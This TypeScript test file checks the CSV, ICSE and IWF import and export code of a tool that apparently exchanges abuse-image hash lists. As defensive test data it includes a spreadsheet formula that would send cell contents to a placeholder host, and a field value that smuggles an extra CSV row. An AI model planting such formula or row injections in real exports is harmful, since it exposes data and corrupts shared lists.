import { readFile } from 'node:fs/promises'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import {
  type Delta,
  type Exported,
  FORMAT_NAMES,
  type FormatName,
  readList,
  writeList,
} from '../../src/exchange/index.ts'
import { isName } from '../../src/core/index.ts'
import { HASH_TYPES, type HashType, isOpaque, writtenAs } from '../../src/hashes/index.ts'
import { CLASSIFICATIONS } from '../../src/register/index.ts'

const ENTRY: Exported = {
  key: 'k1',
  kind: 'image',
  classification: 'Baseline',
  status: 'verified',
  hashes: [{ type: 'md5', value: 'ab'.repeat(16) }],
  sourceReference: null,
  jurisdiction: null,
  victimIdentified: null,
  selfGenerated: null,
  note: null,
  feedback: null,
}

const FRAME = { type: 'pdq', value: 'cd'.repeat(32), quality: 80, seconds: 0 } as const

async function* each<Value>(values: Iterable<Value>): AsyncGenerator<Value> {
  for (const value of values) {
    await Promise.resolve()
    yield value
  }
}

async function written(format: FormatName, entries: readonly Exported[], isFeedback = false) {
  const classes =
    format === 'icse' ? { Baseline: 'Yes', National: 'No' } : { Baseline: 'A', National: 'B' }
  const options = { classes, isFeedback }
  const counts = { written: 0, leftOut: 0 }
  let text = ''
  for await (const piece of writeList(format, each(entries), options, counts)) text += piece
  return { text, counts }
}

async function read(format: FormatName, text: string): Promise<Delta[]> {
  const deltas: Delta[] = []
  for await (const delta of readList(format, each([Buffer.from(text)]))) deltas.push(delta)
  return deltas
}

const text = fc
  .string({
    unit: fc.oneof(
      fc.constantFrom('\n', '\r', '"', ',', ';', "'", '=', '+', '-', '@', ' ', '\t', 'å', '🦦'),
      fc.string({ unit: 'binary-ascii', minLength: 1, maxLength: 1 }),
    ),
    minLength: 1,
    maxLength: 20,
  })
  .filter((one) => one.trim() !== '')
const name = text.filter(isName)
const writable = text.map((one) => one.replaceAll(/[^\P{Cc}\t\n\r]/gu, '.'))
const flag = fc.constantFrom(true, false, null)

function hash(type: HashType) {
  const { charsMax } = writtenAs(type)
  const digits = { unit: fc.constantFrom(...Array.from('0123456789abcdef')), minLength: charsMax }
  const value = isOpaque(type)
    ? writable.map((one) => one.trim())
    : fc.string({ ...digits, maxLength: charsMax })
  const quality = fc.integer({ min: 0, max: 100 })
  return fc.record({ type: fc.constant(type), value, ...(type === 'pdq' ? { quality } : {}) })
}

const entry = fc.record({
  key: name,
  kind: fc.constantFrom('image', 'film', 'unknown'),
  classification: fc.constantFrom(...CLASSIFICATIONS),
  status: fc.constant('verified'),
  hashes: fc.subarray(HASH_TYPES, { minLength: 1 }).chain((types) => fc.tuple(...types.map(hash))),
  sourceReference: fc.option(name),
  jurisdiction: fc.constantFrom('SE', 'GB', null),
  victimIdentified: flag,
  selfGenerated: flag,
  note: fc.option(writable),
  feedback: fc.constant(null),
}) as fc.Arbitrary<Exported>

describe('lists in our own CSV', () => {
  it('are imported as they were exported', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(entry, { minLength: 1, maxLength: 3 }), async (entries) => {
        const deltas = await read('csv', (await written('csv', entries)).text)
        expect(deltas.map((delta) => ({ ...delta, line: 0 }))).toEqual(
          entries.map(({ key, kind, classification, hashes, ...rest }) => {
            const { sourceReference, jurisdiction, victimIdentified, selfGenerated, note } = rest
            return {
              change: 'put',
              line: 0,
              key,
              kind,
              classification,
              hashes,
              description: {
                sourceReference,
                jurisdiction,
                victimIdentified,
                selfGenerated,
                note,
              },
            }
          }),
        )
      }),
    )
  })

  it('give one entry for one, whatever stands in its names', async () => {
    const row = `x\r\nk2,image,Baseline,,,${'cd'.repeat(16)}`
    for (const field of ['key', 'sourceReference', 'jurisdiction', 'note'] as const) {
      const deltas = await read('csv', (await written('csv', [{ ...ENTRY, [field]: row }])).text)
      expect(deltas).toHaveLength(1)
      expect(deltas[0]).toMatchObject({ change: 'put', hashes: ENTRY.hashes })
    }
  })

  it('guard what a spreadsheet would run', async () => {
    const formula = '=HYPERLINK("https://host.example/?"&A2)'
    const feedback = { opinion: 'disagree', reason: formula, at: '2026-11-27T00:00:00Z' } as const
    const entries = [{ ...ENTRY, key: formula, note: formula, feedback }]
    for (const format of ['csv', 'iwf'] as const) {
      const { text: list } = await written(format, entries)
      expect(list).not.toMatch(/(^|[,"])=/m)
    }
    expect((await written('csv', entries, true)).text).not.toMatch(/(^|[,"])=/m)
  })
})

describe('every format', () => {
  it.each(FORMAT_NAMES)('%s gives back what it has room for, one entry for one', async (format) => {
    const value = 'AA\nmd5 11111111111111111111111111111111'
    const entries: Exported[] = [
      { ...ENTRY, key: '1', note: 'a\nb' },
      { ...ENTRY, key: '2', hashes: [{ type: 'photodna', value }] },
      { ...ENTRY, key: '3', kind: 'film', hashes: [FRAME, { ...FRAME, seconds: 1.5 }] },
    ]
    const { text: list, counts } = await written(format, entries)
    const deltas = await read(format, list)
    expect(deltas).toHaveLength(counts.written)
    expect(deltas[0]).toMatchObject({ change: 'put' })
    const values = deltas.flatMap((delta) => (delta.change === 'put' ? delta.hashes : []))
    const given = entries.flatMap(({ hashes }) => hashes.map((one) => one.value.toLowerCase()))
    for (const one of values) expect(given).toContain(one.value.toLowerCase())
  })

  it.each(FORMAT_NAMES)('%s is described in the manual', async (format) => {
    const manual = await readFile('docs/formats.md', 'utf8')
    expect(manual).toContain(`\n## ${format}\n`)
  })
})
